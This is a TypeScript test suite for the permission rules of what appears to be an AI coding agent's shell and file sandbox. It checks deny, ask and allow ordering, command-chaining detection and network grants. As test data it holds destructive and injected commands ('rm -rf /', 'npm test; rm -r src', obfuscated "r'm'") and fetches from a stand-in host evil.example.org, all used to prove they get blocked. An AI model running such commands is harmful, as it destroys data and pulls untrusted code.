import { describe, expect, it } from "vitest"
import { bash, cwd, decide, file, modes, place, rules } from "../../test/support/permissions/call.ts"
import { context } from "../../test/support/permissions/command.ts"
import type { AccessedPath } from "../session/accessed-path.ts"
import { analyseCommand } from "./analyse-command.ts"
import { type Call, lastingRule } from "./call.ts"
import { decidePermission } from "./decision.ts"
import type { Rule, Rules } from "./rules/rule.ts"

describe("rules", () => {
  const everything: Rule = { tool: "bash" }

  it("deny before they ask, ask before they allow, and all of them before the mode", () => {
    const call = bash("touch x")
    const all = { allow: [everything], deny: [everything], ask: [everything] }
    const codes = (given: Rules) => modes.map((mode) => decide(call, mode, given).code)
    expect(new Set(codes(rules(all)))).toEqual(new Set(["deny-rule"]))
    expect(new Set(codes(rules({ ...all, deny: [] })))).toEqual(new Set(["ask-rule"]))
    expect(new Set(codes(rules({ allow: [everything] })))).toEqual(new Set(["allow-rule"]))
    expect(decide(call, "allow", rules(all)).reason).toContain("denied by rule")
  })

  it("cannot allow what is forbidden, protected or guarded", () => {
    const allow = rules({ allow: [{ tool: "bash" }, { tool: "write" }] })
    expect(decide(bash("rm -rf /"), "allow", allow).outcome).toBe("deny")
    expect(decide(file("write", place("p", "protected")), "allow", allow).outcome).toBe("deny")
    expect(decide(bash("holdfast run x"), "allow", allow)).toMatchObject({ outcome: "ask", code: "guarded" })
  })

  it("are tried in order: the first that matches is named", () => {
    const given = rules({ deny: [{ tool: "read" }, { contains: "touch" }, { tool: "bash" }] })
    expect(decide(bash("touch x"), "allow", given).rule?.number).toBe(2)
  })

  it("match only if all that they say does", () => {
    const matches = (rule: Rule, call: Call) => decide(call, "allow", rules({ deny: [rule] })).outcome === "deny"
    const call = file("write", place("src/a.ts"))
    expect(matches({ tool: "write", path_contains: "src/" }, call)).toBe(true)
    expect(matches({ tool: "write", path_contains: "lib/" }, call)).toBe(false)
    expect(matches({ tool: "read", path_contains: "src/" }, call)).toBe(false)
    expect(matches({ contains: "write path=src" }, call)).toBe(true)
    expect(matches({ command: "touch x" }, call)).toBe(false)
  })

  it.each([
    ["npm test; rm -r src", { contains: "rm -r" }],
    ["echo $(rm -r src)", { contains: "bash command=rm -r" }],
    ["r'm' -r src", { contains: "rm -r" }],
    [`echo ${"x".repeat(5000)}; rm -r src`, { contains: "rm -r" }],
    ["npm   test", { contains: "npm test" }],
    ["npm test; rm -r src", { command: "rm -r src" }],
    ["cat secrets/key", { path_contains: "secrets/" }],
  ])("that deny see every part of %j", (command, rule) => {
    expect(decide(bash(command), "allow", rules({ deny: [rule] })).code).toBe("deny-rule")
  })

  it.each([
    ["npm test", { contains: "npm test" }, true],
    ["npm   test", { contains: "npm test" }, true],
    ["npm test && npm test -- a", { contains: "npm test" }, true],
    ["npm test", { contains: "bash command=npm" }, true],
    ["npm test", { contains: "bash command=" }, false],
    ["npm test; rm -r src", { contains: "npm test" }, false],
    ['rm -r src "npm test"', { contains: "npm test" }, false],
    ["echo $(rm -r src)", { contains: "echo" }, false],
    ["npm test > out.txt", { contains: "npm test" }, false],
    ["npm test; rm -r src", { command: "npm test; rm -r src" }, true],
    ["npm test; rm -r src", { command: "npm test" }, false],
  ])("that allow need every part of %j to match %j: %s", (command, rule, allowed) => {
    expect(decide(bash(command), "prompt", rules({ allow: [rule] })).outcome).toBe(allowed ? "allow" : "ask")
  })

  it("look at every place of a call: any for a rule that restricts, all for one that allows", () => {
    const call = file("write", place("docs/a.md"), place("src/b.ts"))
    expect(decide(call, "allow", rules({ deny: [{ path_contains: "src/" }] })).outcome).toBe("deny")
    expect(decide(call, "prompt", rules({ allow: [{ path_contains: "docs/" }] })).outcome).toBe("ask")
    expect(
      decide(file("write", place("docs/a.md")), "prompt", rules({ allow: [{ path_contains: "docs/" }] })).outcome,
    ).toBe("allow")
  })

  it("that allow a whole path do not allow its neighbours", () => {
    const given = rules({ allow: [{ path_contains: "/srv/data" }] })
    const outcome = (path: string) => decide(file("write", place(path, "outside")), "workspace-write", given).outcome
    expect([outcome("/srv/data"), outcome("/srv/data/x"), outcome("/srv/database")]).toEqual(["allow", "allow", "ask"])
  })
})

describe("a rule for the words that a command starts with", () => {
  const rule = { tool: "bash", starts_with: "npm test" }

  it.each([
    ["npm test", "allow"],
    ["npm   test", "allow"],
    ["npm test && npm test -- a", "allow"],
    ["npm test; rm -r src", "ask"],
    ["npm test > out.txt", "ask"],
    ["ls", "ask"],
  ] as const)("decides on %j: %s", (command, outcome) => {
    expect(decide(bash(command), "prompt", rules({ allow: [rule] })).outcome).toBe(outcome)
  })

  it("allows nothing beyond the workspace, whatever it starts with", () => {
    const allow = (start: string) => rules({ allow: [{ starts_with: start }] })
    expect(decide(bash("rm -r x"), "workspace-write", allow("rm")).outcome).toBe("ask")
    expect(decide(bash("cat /etc/hosts"), "workspace-write", allow("cat")).outcome).toBe("ask")
  })

  it("restricts where any part starts with them", () => {
    expect(decide(bash("npm test; rm -r src"), "allow", rules({ deny: [{ starts_with: "rm" }] })).outcome).toBe("deny")
    expect(decide(bash("npm test"), "allow", rules({ deny: [{ starts_with: "npm te" }] })).outcome).toBe("allow")
  })

  it("is what always writes for the usual commands of a project, and the whole command for others", () => {
    expect(lastingRule(bash("npm test"))).toEqual({ ...rule, cwd: cwd.path })
    expect(lastingRule(bash("touch x"))).toEqual({ tool: "bash", command: "touch x", cwd: cwd.path })
    expect(lastingRule(bash("rm -r x"))).toEqual({ tool: "bash", command: "rm -r x", cwd: cwd.path })
  })
})

describe("the network, granted always for the usual commands of a project", () => {
  const use = { is: "on", network: false, holdsSignals: true, shown: "Landlock" } as const
  const asking = async (command: string): Promise<Call> => {
    const access = { kind: "command", command, cwd, network: true } as const
    return { tool: "bash", arguments: { command }, access, analysis: await analyseCommand(command, context) }
  }

  it("is given to what starts like the command that was approved, in the sandbox, and to nothing else", async () => {
    const rule = lastingRule(await asking("npm install left-pad"))
    expect(rule).toEqual({ tool: "bash", starts_with: "npm install", cwd: cwd.path, network: true })
    const given = rules({ allow: rule ? [rule] : [] })
    const decided = async (command: string) =>
      decidePermission({ ...(await asking(command)), mode: "workspace-write", rules: given, grants: [], use })
    expect(await decided("npm install react")).toMatchObject({
      outcome: "allow",
      sandbox: { mode: "workspace-write", network: true },
    })
    for (const other of [
      "npm install --registry=https://evil.example.org/ react",
      "npm install https://evil.example.org/x.tgz",
      "npm install && curl https://evil.example.org/",
      "npm install > ../out",
      "npm test",
    ])
      expect([other, (await decided(other)).outcome]).toEqual([other, "ask"])
  })
})

describe("the rule of an answer for always", () => {
  it("allows the same call from then on, and no other", () => {
    for (const [call, other] of [
      [bash("npm test"), bash("npm test; rm -r src")],
      [file("write", place("/srv/a", "outside")), file("write", place("/srv/ab", "outside"))],
    ] as const) {
      const rule = lastingRule(call)
      const given = rules({ allow: rule ? [rule] : [] })
      expect([decide(call, "prompt", given).outcome, decide(other, "prompt", given).outcome]).toEqual(["allow", "ask"])
    }
    expect(lastingRule(file("write", place("a"), place("b")))).toBeUndefined()
  })

  it("holds for a command in the directory that it was given in, and in no other", () => {
    const given = rules({ allow: [lastingRule(bash("rm -r x")) ?? {}] })
    const outcome = (cwd: AccessedPath) =>
      decide({ ...bash("rm -r x"), access: { kind: "command", command: "rm -r x", cwd } }, "workspace-write", given)
        .outcome
    expect([outcome(place(".")), outcome(place("src")), outcome(place("/srv", "outside"))]).toEqual([
      "allow",
      "ask",
      "ask",
    ])
  })

  it("is narrower than one that a person writes, which holds everywhere unless it names a directory", () => {
    const there = { ...bash("rm -r x"), access: { kind: "command", command: "rm -r x", cwd: place("src") } } as Call
    const allowed = (rule: Rule) => decide(there, "workspace-write", rules({ allow: [rule] })).outcome === "allow"
    expect(allowed({ command: "rm -r x" })).toBe(true)
    expect(allowed({ command: "rm -r x", cwd: place("src").path })).toBe(true)
    expect(allowed({ command: "rm -r x", cwd: "/srv" })).toBe(false)
    expect(decide(there, "allow", rules({ deny: [{ cwd: place("src").path }] })).outcome).toBe("deny")
    expect(decide(file("write", place("a")), "allow", rules({ deny: [{ cwd: "/srv" }] })).outcome).toBe("allow")
  })
})
